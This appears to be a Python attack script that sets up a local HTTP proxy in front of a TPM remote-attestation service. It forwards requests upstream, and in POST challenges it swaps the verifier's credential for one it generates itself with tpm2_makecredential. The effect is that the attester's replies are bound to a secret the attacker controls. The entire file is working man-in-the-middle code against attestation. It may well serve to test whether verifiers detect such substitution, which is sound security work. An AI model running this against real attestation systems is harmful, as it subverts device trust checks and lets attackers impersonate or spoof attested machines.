"""other_credential.py UPSTREAM FOLDER: stands before an attester and gives its TPM another credential than the verifier made.

Whoever cannot open a verifier's credential can have one opened that it made itself, for the same attestation key: all that
the machine then says is signed as it should be, and bound to a secret that the verifier does not know. Prints its address.
FOLDER is for what tpm2_makecredential reads and writes.
"""
import base64
import hashlib
import http.server
import json
import os
import struct
import subprocess
import sys
import urllib.request

upstream, folder = sys.argv[1:]


def ask(path, body=None):
    headers = {'Content-Type': 'application/json'}
    return urllib.request.urlopen(urllib.request.Request(upstream + path, body, headers)).read()


def parts(blob):
    """Contents of the two TPM2Bs behind tpm2-tools' magic number and version."""
    size, = struct.unpack_from('>H', blob, 8)
    at = 10 + size
    second, = struct.unpack_from('>H', blob, at)
    return blob[10:at], blob[at + 2:at + 2 + second]


def credential():
    identity = json.loads(ask('/attest/1/identity'))
    ek, ak = (base64.b64decode(identity[name]) for name in ('ek_public', 'ak_public'))
    files = {name: os.path.join(folder, name) for name in ('ek', 'secret', 'blob')}
    with open(files['ek'], 'wb') as f:
        f.write(struct.pack('>H', len(ek)) + ek)
    with open(files['secret'], 'wb') as f:
        f.write(b'not what was asked for, 32 bytes')
    subprocess.run(['tpm2_makecredential', '-T', 'none', '-u', files['ek'], '-s', files['secret'],
                    '-n', '000b' + hashlib.sha256(ak).hexdigest(), '-o', files['blob']],
                   check=True, stdout=subprocess.DEVNULL)
    with open(files['blob'], 'rb') as f:
        names = ('id_object', 'encrypted_secret')
        return {n: base64.b64encode(p).decode() for n, p in zip(names, parts(f.read()))}


class Between(http.server.BaseHTTPRequestHandler):
    def answer(self, body):
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.answer(ask(self.path))

    def do_POST(self):
        challenge = json.loads(self.rfile.read(int(self.headers['Content-Length'])))
        challenge['credential'] = credential()
        self.answer(ask(self.path, json.dumps(challenge).encode()))

    def log_message(self, *_):
        pass


server = http.server.HTTPServer(('127.0.0.1', 0), Between)
print('http://127.0.0.1:%d' % server.server_port, flush=True)
server.serve_forever()
